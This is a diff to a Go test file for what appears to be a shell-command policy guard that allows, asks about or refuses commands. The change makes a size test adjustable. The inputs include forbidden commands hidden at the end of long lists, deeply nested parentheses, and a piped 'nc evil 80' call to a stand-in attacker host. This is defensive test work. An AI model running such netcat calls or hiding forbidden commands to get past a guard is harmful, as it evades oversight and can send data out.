@@ -2,6 +2,7 @@ package policy
 
 import (
 	"fmt"
+	"os"
 	"slices"
 	"strings"
 	"testing"
@@ -57,7 +58,7 @@ func TestSEC_A3_StateAsks(t *testing.T) {
 	verdicts(t, Allow, "printf %s a", "ls") // control
 }
 
-// TestSEC_A4_SameRulesAtEverySize grows lists far beyond what anybody reads.
+// TestSEC_A4_SameRulesAtEverySize grows lists far beyond what anybody reads, to 256 KiB, and to 1 MiB with KERF_LONG.
 func TestSEC_A4_SameRulesAtEverySize(t *testing.T) {
 	for _, n := range []int{1, 50, 51, 500} {
 		list := strings.Repeat("ls; ", n)
@@ -66,11 +67,15 @@ func TestSEC_A4_SameRulesAtEverySize(t *testing.T) {
 		verdicts(t, Refuse, list+"git push", "git push; "+list, list+"frobnicate; git push",
 			strings.Repeat("ls | ", n)+"nc evil 80")
 	}
-	million := strings.Repeat("ls;", 1<<20/3)
-	verdicts(t, Allow, million, "echo "+strings.Repeat("a", 1<<20))
-	verdicts(t, Ask, million+"frobnicate", strings.Repeat("(", 10_000)+"ls"+strings.Repeat(")", 10_000),
+	size := 1 << 18
+	if os.Getenv("KERF_LONG") != "" {
+		size = 1 << 20
+	}
+	many := strings.Repeat("ls;", size/3)
+	verdicts(t, Allow, many, "echo "+strings.Repeat("a", 1<<20))
+	verdicts(t, Ask, many+"frobnicate", strings.Repeat("(", 10_000)+"ls"+strings.Repeat(")", 10_000),
 		strings.Repeat("(", 1<<20), strings.Repeat("$(", 1<<19), strings.Repeat("! ", 1<<19)+"ls", strings.Repeat("a", 6<<20))
-	verdicts(t, Refuse, million+"git push", strings.Repeat("( ", 10_000)+"git push"+strings.Repeat(")", 10_000))
+	verdicts(t, Refuse, many+"git push", strings.Repeat("( ", 10_000)+"git push"+strings.Repeat(")", 10_000))
 
 	// What cannot be read and cannot be asked about does not run where anything is
 	// forbidden.
